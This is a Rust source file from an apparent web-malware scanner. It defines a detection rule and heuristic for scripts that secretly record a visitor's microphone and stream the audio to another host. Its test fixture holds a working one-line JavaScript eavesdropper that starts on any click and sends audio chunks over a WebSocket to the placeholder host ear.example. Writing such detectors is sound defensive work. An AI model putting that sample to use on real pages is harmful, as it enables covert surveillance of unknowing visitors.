//! `recorded-by-order`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "recorded-by-order",
    description: "The script records the visitor after any click or on a server's command, and sends the recording to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Recorder])],
    within: 0,
    only_if: Some(is_sent),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "const w=new WebSocket('wss://ear.example/r');async function go(){const s=await navigator.mediaDevices.getUserMedia({audio:true});const r=new MediaRecorder(s);r.ondataavailable=e=>w.send(e.data);r.start(4000);w.onmessage=m=>{if(m.data==='stop')r.stop()}}document.body.addEventListener('click',go)",
        ],
        without: &[
            "rec.onclick=async()=>{const s=await navigator.mediaDevices.getUserMedia({audio:true});const r=new MediaRecorder(s);r.ondataavailable=e=>parts.push(e.data);r.start()};send.onclick=()=>fetch('/voice',{method:'POST',body:new Blob(parts)})",
            r#"const s=await navigator.mediaDevices.getUserMedia({audio:true}),w=new WebSocket('wss://api.deck.example/listen'),r=new MediaRecorder(s);r.ondataavailable=e=>w.send(e.data);w.onopen=()=>r.start(250);w.onmessage=m=>{const d=JSON.parse(m.data);if(d.final)r.stop();out.textContent+=d.text}"#,
        ],
    },
};

/// Whether pieces are sent as they come to a host that is here, and nobody presses a button for it.
fn is_sent(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 150);
    let piece = near.words(&["ondataavailable"]).any(|at| {
        near.function_in(at + 1..at + 6)
            .is_some_and(|body| near.among(body).has_word(&["send", "sendBeacon", "fetch"]))
    });
    let ordered = || {
        near.words(&["onmessage"]).any(|at| {
            near.function_in(at + 1..at + 6)
                .is_some_and(|body| near.among(body).words(&["start"]).any(|at| near.is(at + 1, b'(')))
        })
    };
    piece
        && near.has_word(&["getUserMedia"])
        && near.has_text(&["wss://", "ws://", "https://"])
        && (near.has_fact(&[Atom::PageClick]) || ordered())
}
